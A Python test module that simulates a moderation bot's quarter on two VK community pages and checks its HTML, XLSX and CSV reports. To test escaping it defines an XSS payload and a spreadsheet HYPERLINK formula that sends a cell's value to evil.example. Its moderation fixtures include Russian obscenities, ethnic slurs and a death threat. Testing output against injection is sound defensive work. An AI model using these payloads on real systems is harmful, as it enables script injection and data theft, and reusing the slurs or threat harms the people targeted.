"""``modbot report`` on a quarter lived through by the daemon against the VK emulator.

The database is built the way production builds it — citizens' comments, messages, the page's
posts and a suggested post go into the emulator; the daemon receives, judges, deletes, bans; a
moderator decides held comments and undoes automatic removals through the decision service —
while the emulator's clock and the daemon's injected clock walk through the first quarter of
2027 (Moscow time) together. The test keeps its own log of what it did and computes every
figure from that log; the report (HTML parsed by an HTML5 parser, XLSX read back by openpyxl,
CSV) must show the same numbers. One page misses the clause-15 rate in two weeks.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import math
import shutil
import statistics
import time
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import html5lib
import openpyxl
import pytest

from bot.cli import main
from bot.emulator import VKEmulator
from bot.ladder import primary_category
from bot.store import Store
from tests.conftest import ADMIN1, ADMIN2, G1, G2, community, settle, token_env, wait_for

MSK = ZoneInfo("Europe/Moscow")
SVG = "{http://www.w3.org/2000/svg}"
ORG = "Администрация Пятигорска"
TRUSTED = [7000 + i for i in range(60)]  # their violations are held for a moderator (one author a day)
REPEAT = 900001  # a repeat offender: banned 1 day, 7 days, forever
CLEAN = [
    "подскажите, пожалуйста, когда откроют каток на площади?",
    "Дороги ужасные, где деньги?",
    "Администрация опять ничего не делает, позор",
    "спасибо за новогоднюю ёлку на площади",
    "когда включат отопление в школе номер пять?",
    "во дворе на Кирова опять не вывезли мусор, третий день стоит",
    "будет ли автобус до Горячеводского по выходным?",
    "отличная новость, ждём открытия парка",
]
VIOLATING = [
    "блядь, ни одного талона к педиатру",
    "ты тупой дебил и идиот",
    "я тебя найду и убью, тварь",
    "все чурки должны убираться из нашего города",
    "понаехали тут черножопые, выгнать всех",
    "Заработок от 5000 в день без вложений! Пиши в личку, ссылка в профиле http://earn-money.biz",
]
HOSTILE = '<script>alert(1)</script> "><img src=x onerror=alert(1)> блядь'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"жми") блядь'
G2_SHORT_WEEKS = {3: 2, 7: 1}  # ISO weeks of 2027 in which the hospital's page publishes too little


def at(y: int, m: int, d: int, h: int = 10, mi: int = 0) -> float:
    return dt.datetime(y, m, d, h, mi, tzinfo=MSK).timestamp()


def p95(values: list[float]) -> float:
    ordered = sorted(values)
    return ordered[math.ceil(0.95 * len(ordered)) - 1]


@dataclass
class Log:
    """What the test did, in simulated time, and what it expects per page."""

    received: Counter[tuple[int, str]] = field(default_factory=Counter)  # (group, comment|message) in Q1
    days: Counter[dt.date] = field(default_factory=Counter)
    removed: Counter[int] = field(default_factory=Counter)
    by_category: dict[int, Counter[str]] = field(default_factory=lambda: defaultdict(Counter))
    by_attribute: dict[int, Counter[str]] = field(default_factory=lambda: defaultdict(Counter))
    bans: dict[int, Counter[int | None]] = field(default_factory=lambda: defaultdict(Counter))
    banned_authors: dict[int, set[int]] = field(default_factory=lambda: defaultdict(set))
    held: Counter[int] = field(default_factory=Counter)
    delays: dict[int, list[float]] = field(default_factory=lambda: defaultdict(list))
    auto: Counter[int] = field(default_factory=Counter)
    undone: Counter[int] = field(default_factory=Counter)
    posts: dict[int, Counter[int]] = field(default_factory=lambda: defaultdict(Counter))  # group → ISO week
    posts_in_q1: Counter[int] = field(default_factory=Counter)
    removals_by_who: Counter[str] = field(default_factory=Counter)

    def share(self, group: int) -> float:
        weeks = range(1, 13)
        return sum(self.posts[group][w] >= 3 for w in weeks) / len(weeks)


class Quarter:
    """Drives the emulator and the daemon through 2027Q1 and keeps the :class:`Log`."""

    def __init__(self, emu: VKEmulator, judge: Any) -> None:
        self.emu = emu
        self.judge = judge
        self.daemon: Any = None
        self.log = Log()
        self.author = 500000
        self.verdicts = {t: judge.judge(t) for t in CLEAN + VIOLATING + [HOSTILE, FORMULA]}
        for t in CLEAN:
            assert self.verdicts[t].action == "allow", t
        for t in VIOLATING + [HOSTILE, FORMULA]:
            assert self.verdicts[t].action == "delete_and_ban", t
        self.now = 0.0
        self.sent = 0  # comments sent since the current daemon started (each is judged once)
        self.posts_made = 0

    def goto(self, ts: float) -> None:
        assert ts >= self.now - 1, "simulated time only goes forward"
        self.emu.state.clock_offset = ts - time.time()
        self.now = ts

    def clock(self) -> float:
        return self.emu.state.now()

    def in_q1(self, ts: float) -> bool:
        return at(2027, 1, 1, 0) <= ts < at(2027, 4, 1, 0)

    def category(self, text: str) -> tuple[str, list[str]]:
        v = self.verdicts[text]
        cat = primary_category(v.labels, v.scores)
        targets = []
        for e in v.evidence:
            e = e if isinstance(e, dict) else e.__dict__
            if e.get("category") == cat and e.get("target") and e["target"] not in targets:
                targets.append(e["target"])
        return cat, targets

    async def settle(self) -> None:
        await settle(self.daemon, judged=self.sent)

    def comment(self, group: int, text: str, author: int | None = None, kind: str = "wall") -> dict[str, Any]:
        if author is None:
            self.author += 1
            author = self.author
        out = self.emu.post_comment(group, author, text, kind)
        self.sent += 1
        if self.in_q1(self.now):
            self.log.received[(group, "message" if kind == "message" else "comment")] += 1
            self.log.days[dt.datetime.fromtimestamp(self.now, MSK).date()] += 1
        return out

    def removed(self, group: int, text: str, *, who: str = "auto", category: str | None = None) -> None:
        cat, targets = self.category(text)
        cat = category or cat
        self.log.removed[group] += 1
        self.log.by_category[group][cat] += 1
        for t in targets if category is None else []:
            self.log.by_attribute[group][t] += 1
        self.log.removals_by_who[who] += 1

    def banned(self, group: int, author: int, days: int | None) -> None:
        self.log.bans[group][days] += 1
        self.log.banned_authors[group].add(author)

    def post(self, group: int, ts: float) -> None:
        self.goto(ts)
        self.emu.add_post(group, f"Новость {ts}")
        self.posts_made += 1
        iso = dt.datetime.fromtimestamp(ts, MSK).date().isocalendar()
        if iso[0] == 2027:
            self.log.posts[group][iso[1]] += 1
        if self.in_q1(ts):
            self.log.posts_in_q1[group] += 1

    def decision_for(self, group: int, posted: dict[str, Any]) -> dict[str, Any]:
        """The automatic decision about a comment the test posted."""
        suffix = f":{posted['comment_id']}"
        (found,) = [
            r
            for r in self.daemon.store.decisions(0)
            if r["community_id"] == group
            and r["comment_key"].endswith(suffix)
            and r["kind"] == posted["kind"]
            and r["decided_by"] == "auto"
        ]
        return found


async def simulate(emu: VKEmulator, judge: Any, db: Path, cfg: Path) -> tuple[Log, dict[str, Any]]:
    from bot.adapters import build_platforms
    from bot.config import load_config
    from bot.daemon import Daemon, DaemonOptions
    from bot.metrics import Metrics
    from bot.vk.adapter import VKOptions

    q = Quarter(emu, judge)
    env = token_env(emu)

    async def start() -> Any:
        config = load_config(cfg, env)
        opts = DaemonOptions(
            outbox_poll=0.02, http=("127.0.0.1", 0), sweep_interval=2.0, retry_base=0.2, clock=q.clock
        )
        vk_opts = VKOptions(api_url=emu.api_url, longpoll_wait=1, captcha_pause=1.0, client_backoff_cap=0.5)
        metrics = Metrics()
        d = Daemon(
            config,
            platforms=build_platforms(config, metrics=metrics, vk=vk_opts),
            options=opts,
            judge=judge,
            metrics=metrics,
        )
        await d.start()
        q.daemon, q.sent = d, 0
        return d

    # 31 December, 20:00: posts of the last ISO week of 2026 — not the first quarter's.
    q.post(G1, at(2026, 12, 31, 20))
    q.post(G2, at(2026, 12, 31, 20, 30))
    # 1 January, 00:10: a post published before modbot's first start, found by reading the wall.
    q.post(G1, at(2027, 1, 1, 0, 10))
    q.goto(at(2027, 1, 1, 0, 30))
    d = await start()
    await wait_for(
        lambda: d.store.count_posts("vk", G1, at(2027, 1, 1, 0), at(2027, 1, 2, 0)) == 1,
        what="the first start reads the page's earlier posts from its wall",
    )
    # a comment just after midnight Moscow time (still 31 December in UTC) belongs to the first quarter
    q.goto(at(2027, 1, 1, 0, 40))
    q.comment(G2, CLEAN[0])
    await q.settle()

    day = dt.date(2027, 1, 1)
    n = 0
    held: list[tuple[int, int, float, str]] = []  # (group, comment row, held at, text)
    repeat_days = {dt.date(2027, 1, 4): 1, dt.date(2027, 1, 8): 7, dt.date(2027, 1, 20): None}
    while day <= dt.date(2027, 3, 31):
        iso_week = day.isocalendar()[1] if day.isocalendar()[0] == 2027 else 0
        # the page's own publications: G1 Mon/Wed/Fri (+ Sat in even weeks); G2 three a week except in two weeks
        wd = day.weekday()
        if wd in (0, 2, 4) or (wd == 5 and iso_week % 2 == 0):
            q.post(G1, at(day.year, day.month, day.day, 9))
        g2_days = {3: (1, 3), 7: (2,)}.get(iso_week, (0, 2, 4))
        if wd in g2_days:
            q.post(G2, at(day.year, day.month, day.day, 9, 30))
        if wd == 1 and iso_week == 2:  # a user's suggestion and a user's post on an open wall: not the page's
            q.goto(at(day.year, day.month, day.day, 9, 40))
            emu.add_post(G1, "Предлагаю новость", from_id=123456, post_type="suggest")
            emu.add_post(G2, "Пост пользователя", from_id=123457)
        if wd not in (0, 2, 4) and day != dt.date(2027, 1, 2):
            day += dt.timedelta(days=1)
            continue
        n += 1
        q.goto(at(day.year, day.month, day.day, 10))
        for group in (G1, G2):
            for i in range(3 + (n + group) % 3):
                q.comment(group, CLEAN[(n + i + group) % len(CLEAN)])
            text = VIOLATING[(n + group) % len(VIOLATING)]
            q.comment(group, text)
            q.removed(group, text)
            q.log.auto[group] += 1
            q.banned(group, q.author, 1)
        if wd == 4:
            q.comment(G1, CLEAN[n % len(CLEAN)], kind="message")
        if day in repeat_days:
            q.comment(G1, VIOLATING[1], author=REPEAT)
            q.removed(G1, VIOLATING[1])
            q.log.auto[G1] += 1
            q.banned(G1, REPEAT, repeat_days[day])
        hold_group, trusted = (G1 if n % 2 else G2), TRUSTED[n]
        q.comment(hold_group, VIOLATING[n % len(VIOLATING)], author=trusted)
        q.log.held[hold_group] += 1
        await q.settle()
        (item,) = [r for r in d.store.review_queue(limit=1000) if r["author_id"] == str(trusted)]
        held.append((hold_group, item["id"], q.now, VIOLATING[n % len(VIOLATING)], trusted))
        # every fourth activity day a moderator undoes an automatic removal on the first page
        if n % 4 == 0:
            posted = q.comment(G1, VIOLATING[2])
            q.log.auto[G1] += 1
            q.log.undone[G1] += 1  # neither a removal nor a ban any more
            await q.settle()
            auto = q.decision_for(G1, posted)
            assert auto["action"] == "delete_and_ban"
            q.goto(at(day.year, day.month, day.day, 10, 30))  # within VK's restore window
            d.decisions.undo(auto["id"], by="Петрова", reason="это критика", now=q.clock())
            d.outbox.wake()
            await q.settle()
        # moderators decide yesterday's-or-earlier held comments; the last few stay waiting
        if n >= 2 and len(held) >= 2 and n < 36:
            group, row, held_at, text, author = held.pop(0)
            q.goto(max(q.now, held_at) + 3600 * (1 + n % 7))
            verdict = ["keep", "delete", "delete_and_ban"][n % 3]
            kwargs: dict[str, Any] = {"ban_days": 3} if verdict == "delete_and_ban" else {}
            d.decisions.moderate(
                row,
                verdict,
                by="Иванова",
                category="insult" if verdict != "keep" else "",
                now=q.clock(),
                **kwargs,
            )
            q.log.delays[group].append(q.clock() - held_at)
            if verdict != "keep":
                q.removed(group, text, who="Иванова", category="insult")
            if verdict == "delete_and_ban":
                q.banned(group, author, 3)
            d.outbox.wake()
            await q.settle()
        # mid-quarter the daemon is down for a morning; the posts published meanwhile arrive once
        if day == dt.date(2027, 2, 15):
            await d.stop()
            q.post(G1, at(2027, 2, 16, 9))
            q.goto(at(2027, 2, 16, 11))
            d = await start()
            await q.settle()
        day += dt.timedelta(days=1)

    # Moscow-time edges of the quarter: 23:30 on 31 March is in it, 00:30 on 1 April is not
    q.goto(at(2027, 3, 31, 23, 30))
    q.comment(G2, CLEAN[1])
    await q.settle()
    q.goto(at(2027, 4, 1, 0, 30))
    q.comment(G2, CLEAN[2])
    await q.settle()
    # hostile texts, removed on the first page: escaped in HTML, text (never a formula) in XLSX and CSV
    q.goto(at(2027, 4, 1, 1))
    q.comment(G1, HOSTILE)
    q.comment(G1, FORMULA)
    await q.settle()
    await wait_for(
        lambda: len(d.store.report_posts(None, 0, 2**40)) == q.posts_made, what="every post stored once"
    )
    await d.stop()
    extra = {"waiting": {g: q.log.held[g] - len(q.log.delays[g]) for g in (G1, G2)}}
    return q.log, extra


@pytest.fixture(scope="module")
def quarter(judge: Any, tmp_path_factory: pytest.TempPathFactory) -> tuple[Log, Path, Path, dict[str, Any]]:
    """The quarter, simulated once for the module (about a minute)."""
    tmp = tmp_path_factory.mktemp("quarter")
    db, cfg = tmp / "modbot.db", tmp / "modbot.toml"
    lines = [f'database = "{db}"', ""]
    for group, name in ((G1, "Администрация города Пятигорска"), (G2, "Городская больница №1")):
        c = community(group, name=name, organisation=ORG, trusted_user_ids=TRUSTED)
        lines.append("[[communities]]")
        for k, v in c.items():
            if isinstance(v, list):
                lines.append(f"{k} = [{', '.join(repr(x) for x in v)}]")
            else:
                lines.append(f"{k} = {v!r}" if not isinstance(v, str) else f'{k} = "{v}"')
        lines.append("")
    cfg.write_text("\n".join(lines), encoding="utf-8")

    async def run() -> tuple[Log, dict[str, Any]]:
        async with VKEmulator() as emu:
            emu.add_group(G1, "Администрация города Пятигорска", admin_user_id=ADMIN1)
            emu.add_group(G2, "Городская больница №1", admin_user_id=ADMIN2)
            return await simulate(emu, judge, db, cfg)

    log, extra = asyncio.run(run())
    return log, db, cfg, extra


def _report(tmp_path: Path, cfg: Path, fmt: str, *args: str, period: str = "2027Q1") -> Path:
    out = tmp_path / f"r.{fmt}"
    assert main(["report", "--period", period, "--config", str(cfg), "--out", str(out), *args]) == 0
    return out


def _html_figures(path: Path) -> tuple[Any, dict[tuple[str, str], str]]:
    parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    doc = parser.parse(path.read_bytes())  # strict: any parse error raises
    cells = {
        (td.get("data-figure"), td.get("data-page")): td.get("data-value")
        for td in doc.iter("td")
        if td.get("data-figure") and td.get("data-page")
    }
    return doc, cells


def _expected(log: Log) -> dict[tuple[str, str], float]:
    exp: dict[tuple[str, str], float] = {}
    for g in (G1, G2):
        page = f"vk:{g}"
        received = log.received[(g, "comment")] + log.received[(g, "message")]
        delays = log.delays[g]
        exp |= {
            ("received_comments", page): log.received[(g, "comment")],
            ("received_messages", page): log.received[(g, "message")],
            ("removed", page): log.removed[g],
            ("per_1000", page): 1000 * log.removed[g] / received,
            ("blacklisted_authors", page): len(log.banned_authors[g]),
            ("held", page): log.held[g],
            ("held_decided", page): len(delays),
            ("held_waiting", page): log.held[g] - len(delays),
            ("review_median", page): statistics.median(delays),
            ("review_p95", page): p95(delays),
            ("auto_actions", page): log.auto[g],
            ("auto_undone", page): log.undone[g],
            ("undone_share", page): log.undone[g] / log.auto[g] if log.auto[g] else 0,
            ("posts", page): log.posts_in_q1[g],
            ("weeks_met", page): sum(log.posts[g][w] >= 3 for w in range(1, 13)),
            ("weeks_share", page): log.share(g),
        }
        for cat, count in log.by_category[g].items():
            exp[(f"removed:{cat}", page)] = count
        for target, count in log.by_attribute[g].items():
            exp[(f"attribute:{target}", page)] = count
        for days, count in log.bans[g].items():
            exp[(f"bans:{days if days is not None else 'forever'}", page)] = count
    return exp


def _close(a: float, b: float, key: Any) -> None:
    tolerance = 30.0 if "review" in str(key) else 1e-6 * max(1.0, abs(b))  # delays: the judge takes a moment
    assert abs(a - b) <= tolerance, f"{key}: report {a}, expected {b}"


def test_the_quarter_as_html_matches_the_test_s_own_counts(quarter: Any, tmp_path: Path) -> None:
    log, _, cfg, extra = quarter
    doc, cells = _html_figures(_report(tmp_path, cfg, "html"))
    expected = _expected(log)
    for key, want in expected.items():
        assert key in cells, f"missing {key}"
        _close(float(cells[key]), float(want), key)
    total = lambda k: sum(float(cells[(k, f"vk:{g}")]) for g in (G1, G2))  # noqa: E731
    assert float(cells[("received_comments", "total")]) == total("received_comments")
    assert float(cells[("removed", "total")]) == total("removed")
    # the repeat offender went 1 day → 7 days → forever; the moderator's ban was 3 days
    assert {("bans:1", "vk:1"), ("bans:7", "vk:1"), ("bans:forever", "vk:1"), ("bans:3", "vk:1")} <= set(
        cells
    )
    # clause 15: the hospital's page misses two weeks, the administration's none
    assert expected[("weeks_met", "vk:2")] == 10 and expected[("weeks_met", "vk:1")] == 12
    weeks = {
        t.get("data-page"): {
            r.get("data-week"): r.get("data-status") for r in t.iter("tr") if r.get("data-week")
        }
        for t in doc.iter("table")
        if "weeks" in (t.get("class") or "")
    }
    assert [w for w, s in weeks["vk:2"].items() if s == "missed"] == ["2027-W03", "2027-W07"]
    assert set(weeks["vk:1"].values()) == {"met"} and len(weeks["vk:1"]) == 12
    # charts are drawn into the page: comments and removals per week (total + each page), posts per page
    svgs = list(doc.iter(f"{SVG}svg"))
    assert len(svgs) == 3 * 2 + 2
    assert any("норма: 3" in "".join(t.itertext()) for t in svgs)
    text = " ".join("".join(p.itertext()) for p in doc.iter("p"))
    assert "За I квартал 2027 г. на 2 страницах" in text
    assert "3-я неделя (18.01–24.01) — 2 публикации" in text
    assert "7-я неделя (15.02–21.02) — 1 публикация" in text
    # the removal table: one row per removal that stands, with who decided; no texts by default
    rows = [
        r
        for t in doc.iter("table")
        if "removals" in (t.get("class") or "")
        for r in t.iter("tr")
        if r.get("data-decision")
    ]
    assert len(rows) == sum(expected[("removed", f"vk:{g}")] for g in (G1, G2))
    who = Counter("".join(r.findall("td")[5].itertext()) for r in rows)
    assert who["Иванова"] == log.removals_by_who["Иванова"] and who["автоматически"] > 0
    assert VIOLATING[0] not in path_text(doc) and extra["waiting"][G1] + extra["waiting"][G2] > 0


def path_text(doc: Any) -> str:
    return "".join(doc.itertext())


def test_busiest_days_and_moscow_time_edges(quarter: Any, tmp_path: Path) -> None:
    log, _, cfg, _ = quarter
    doc, cells = _html_figures(_report(tmp_path, cfg, "html"))
    busiest = [t for t in doc.iter("table") if "busiest" in (t.get("class") or "")][0]
    shown = [
        int(td.text.replace("\xa0", ""))
        for td in busiest.iter("td")
        if td.get("data-figure") == "busiest_comments"
    ]
    assert shown == sorted(log.days.values(), reverse=True)[:5]
    # the comment at 00:30 on 1 April (still 31 March in UTC) is not in the first quarter, 23:30 on 31 March is
    assert float(cells[("received_comments", "vk:2")]) == log.received[(G2, "comment")]


def test_xlsx_has_the_same_figures_and_native_charts(quarter: Any, tmp_path: Path) -> None:
    log, _, cfg, _ = quarter
    _, cells = _html_figures(_report(tmp_path, cfg, "html"))
    wb = openpyxl.load_workbook(_report(tmp_path, cfg, "xlsx"))
    ws = wb["Сводка"]
    header = next(r for r in ws.iter_rows(values_only=True) if r[0] == "key")
    cols = {name: i for i, name in enumerate(header)}
    page_col = {
        "vk:1": cols["Администрация города Пятигорска (ВКонтакте)"],
        "vk:2": cols["Городская больница №1 (ВКонтакте)"],
        "total": cols["Итого"],
    }
    checked = 0
    for row in ws.iter_rows(values_only=True):
        if not row[0] or row[0] == "key":
            continue
        for page, col in page_col.items():
            html_value = cells.get((row[0], page))
            if html_value in (None, ""):
                assert row[col] == "—"
                continue
            value = float(row[col])
            if row[0].startswith("review_"):
                value *= 60  # minutes in the workbook, seconds in the HTML's data
                assert abs(value - float(html_value)) <= 60
            else:
                assert abs(value - float(html_value)) < 0.01, (row[0], page)
            checked += 1
    assert checked > 60
    charts = {name: len(wb[name]._charts) for name in wb.sheetnames}
    assert charts["П.19 по неделям"] == 6 and charts["П.15 публикации"] == 2
    posts = wb["П.15 публикации"]
    statuses = [r[4] for r in posts.iter_rows(values_only=True) if r[0] and str(r[0]).startswith("2027-W")]
    assert statuses.count("меньше 3") == 2
    removals = wb["Удаления"]
    assert removals.max_row - 1 >= sum(float(cells[("removed", f"vk:{g}")]) for g in (G1, G2))
    assert log.removed[G1] > 0


def test_csv_has_the_same_figures(quarter: Any, tmp_path: Path) -> None:
    _, _, cfg, _ = quarter
    _, cells = _html_figures(_report(tmp_path, cfg, "html"))
    text = _report(tmp_path, cfg, "csv").read_text(encoding="utf-8")
    section = text.split("[Показатели]\n", 1)[1].split("\n\n", 1)[0]
    rows = list(csv.reader(io.StringIO(section)))
    header = rows[0]
    for r in rows[1:]:
        for page in ("vk:1", "vk:2"):
            value = r[header.index(page)]
            if value:
                assert abs(float(value) - float(cells[(r[0], page)])) < 1e-3, (r[0], page)


def test_texts_only_with_with_texts_and_always_escaped(quarter: Any, tmp_path: Path) -> None:
    _, _, cfg, _ = quarter
    html = _report(tmp_path, cfg, "html", "--with-texts", period="2027-04-01..2027-04-01")
    doc, _ = _html_figures(html)
    raw = html.read_text(encoding="utf-8")
    assert "<script>alert" not in raw and "<img src=x" not in raw
    assert HOSTILE in path_text(doc)  # shown as text
    assert not [el for el in doc.iter("script")] and not [el for el in doc.iter("img")]
    wb = openpyxl.load_workbook(
        _report(tmp_path, cfg, "xlsx", "--with-texts", period="2027-04-01..2027-04-01")
    )
    texts = [c for row in wb["Удаления"].iter_rows() for c in row if c.value == HOSTILE]
    assert texts and texts[0].data_type == "s"
    formulas = [c for row in wb["Удаления"].iter_rows() for c in row if c.value == FORMULA]
    assert formulas and formulas[0].data_type == "s"  # text, never a formula
    out = _report(tmp_path, cfg, "csv", "--with-texts", period="2027-04-01..2027-04-01").read_text(
        encoding="utf-8"
    )
    cells = {c for row in csv.reader(io.StringIO(out.split("[Удаления]\n", 1)[1])) for c in row}
    assert HOSTILE in cells  # starts with "<": nothing to neutralise
    assert "'" + FORMULA in cells  # the spreadsheet reads it as text
    no_texts = _report(tmp_path, cfg, "html", period="2027-04-01..2027-04-01").read_text(encoding="utf-8")
    assert "alert(1)" not in no_texts and "--with-texts" in no_texts


def test_same_database_and_period_give_the_same_figures_also_from_a_copy(
    quarter: Any, tmp_path: Path
) -> None:
    from bot.reports.build import make_report, select_pages
    from bot.reports.periods import parse_period
    from bot.reports.rows import figure_rows

    _, db, _, _ = quarter
    copy = tmp_path / "elsewhere" / "copy.db"
    copy.parent.mkdir()
    shutil.copy(db, copy)

    def figures(path: Path, stamp: float) -> list[Any]:
        with Store(path, readonly=True) as store:
            pages, scope = select_pages(None, store.report_pages())
            report = make_report(store, parse_period("2027Q1"), pages, scope=scope, generated_at=stamp)
        return (
            [(r.key, r.values) for r in figure_rows(report)]
            + [
                (w.week.key, w.posts, w.comments, sorted(w.removals.items()), w.status)
                for pr in report.pages
                for w in pr.figures.weeks
            ]
            + [(r.decision_id, r.at) for r in report.removals]
        )

    first = figures(db, 1.0)
    assert first == figures(db, time.time()) == figures(copy, 2.0)
    # without a config the pages are named by their ids, and the figures do not change
    out = tmp_path / "r.html"
    assert main(["report", "--period", "2027Q1", "--db", str(copy), "--out", str(out)]) == 0
    assert "«vk:1» (ВКонтакте)" in out.read_text(encoding="utf-8")


def test_selection_by_community_and_organisation(quarter: Any, tmp_path: Path, capsys: Any) -> None:
    _, _, cfg, _ = quarter
    _, all_cells = _html_figures(_report(tmp_path, cfg, "html"))
    _, cells = _html_figures(_report(tmp_path, cfg, "html", "--community", "vk:2"))
    assert {page for _, page in cells} == {"vk:2"}
    assert cells[("removed", "vk:2")] == all_cells[("removed", "vk:2")]
    _, cells = _html_figures(_report(tmp_path, cfg, "html", "--organisation", ORG))
    assert cells[("removed", "total")] == all_cells[("removed", "total")]
    out = tmp_path / "x.html"
    for args in (["--community", "vk:99"], ["--organisation", "Школа №5"]):
        assert main(["report", "--period", "2027Q1", "--config", str(cfg), "--out", str(out), *args]) == 2
        assert "не найдена" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(
            [
                "report",
                "--period",
                "2027Q1",
                "--config",
                str(cfg),
                "--out",
                str(out),
                "--community",
                "1",
                "--organisation",
                ORG,
            ]
        )
    assert "not allowed with" in capsys.readouterr().err
    assert not out.exists()


def test_an_empty_period_says_so(quarter: Any, tmp_path: Path) -> None:
    _, _, cfg, _ = quarter
    for fmt in ("html", "xlsx", "csv"):
        out = _report(tmp_path, cfg, fmt, period="2027Q3")
        assert out.stat().st_size > 0
    doc, cells = _html_figures(tmp_path / "r.html")
    assert "данных нет" in path_text(doc)
    assert cells[("received_comments", "total")] == "0"
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert any("данных нет" in str(c.value) for row in wb["Сводка"].iter_rows() for c in row if c.value)
    # a database with no page at all
    empty = tmp_path / "empty.db"
    Store(empty).close()
    out = tmp_path / "e.html"
    assert main(["report", "--period", "2026", "--db", str(empty), "--out", str(out)]) == 0
    assert "нет ни одной страницы" in path_text(_html_figures(out)[0])
